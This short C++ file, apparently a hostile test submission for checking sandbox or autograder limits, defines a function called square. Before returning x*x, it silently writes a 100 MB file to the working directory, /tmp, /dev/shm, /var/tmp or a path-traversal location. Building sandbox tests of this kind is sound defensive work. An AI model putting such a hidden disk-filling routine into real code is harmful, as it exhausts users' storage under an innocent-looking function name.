// SPDX-License-Identifier: GPL-3.0-or-later
#include <cstdio>
#include <initializer_list>
#include <string>

double square(double x) {
  const std::string much(1 << 20, 'x');
  for (const char* folder : {"", "/tmp/", "/dev/shm/", "/program/../", "/var/tmp/"}) {
    std::FILE* file = std::fopen((std::string(folder) + "fill").c_str(), "w");
    if (file == nullptr) continue;
    for (int i = 0; i < 100; ++i) std::fwrite(much.data(), 1, much.size(), file);
    std::fclose(file);
    return x * x;
  }
  return 0;
}
